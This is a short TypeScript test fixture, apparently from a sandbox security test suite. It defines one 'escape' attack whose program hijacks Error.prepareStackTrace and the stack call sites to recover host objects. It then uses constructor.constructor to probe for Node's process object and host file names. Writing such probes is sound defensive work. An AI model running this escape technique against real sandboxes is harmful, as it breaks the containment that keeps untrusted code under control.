import type { Attack } from '../attack.ts';

const attack: Attack = {
  class: 'escape',
  program: `let sites = [];
Error.prepareStackTrace = (error, callSites) => { sites = callSites; return callSites };
try { null.x } catch (error) { void error.stack }
try { await callMCPTool('tools__fail', {}) } catch (error) { void error.stack }
const global = sites.map?.((site) => site.getThis?.() ?? site.getFunction?.()).find(Boolean);
return [sites.length, String(global?.constructor?.constructor('return typeof process')()), sites.map?.((site) => String(site.getFileName?.()))];`,
  badSandbox: 'not-run',
};

export default attack;
